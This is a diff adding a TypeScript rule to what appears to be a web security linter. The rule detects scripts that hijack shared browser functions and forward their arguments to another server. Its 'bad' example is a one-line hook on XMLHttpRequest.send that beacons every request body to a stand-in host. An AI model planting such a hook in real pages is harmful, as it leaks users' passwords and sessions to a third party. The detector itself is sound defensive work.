@@ -1,0 +1,34 @@
+import { isDeclared } from '../access-manifest.ts';
+import { destinationOf } from '../facts/destinations.ts';
+import { defineRule } from '../rule.ts';
+
+const LEAVING = new Set(['network', 'beacon', 'navigation', 'dns']);
+
+export const interceptedCall = defineRule({
+  id: 'intercepted-call',
+  severity: 'critical',
+  threat: 'exfiltration',
+  title: 'What other code sends is copied elsewhere',
+  why: 'A function that every script shares was replaced by one that passes its arguments on to a server: passwords and sessions of the whole page go with them.',
+  fix: 'Leave shared functions as they are.',
+  example: {
+    bad: 'const send = XMLHttpRequest.prototype.send; XMLHttpRequest.prototype.send = function (body) { navigator.sendBeacon("https://collect.example/", body); return send.call(this, body); };',
+    good: 'const original = window.fetch; window.fetch = (...args) => { count += 1; return original(...args); };',
+  },
+  cwe: 200,
+  visit: {
+    flow: (flow, { file, manifest, report }) => {
+      const { source, sink } = flow;
+      if (source.kind !== 'intercepted' || !LEAVING.has(sink.kind)) return;
+      const destination = sink.destination ? destinationOf(sink.destination, file) : null;
+      // Passing the call on to where it was going is what every wrapper does.
+      if (destination?.kind !== 'origin') return;
+      const isAllowed = manifest !== null && isDeclared(destination.url, manifest.origins);
+      report(sink.node, {
+        severity: isAllowed ? 'high' : 'critical',
+        flow,
+        message: `What is passed to ${source.label.replace(/^\w+ of /, '')} is copied to ${destination.origin}.`,
+      });
+    },
+  },
+});
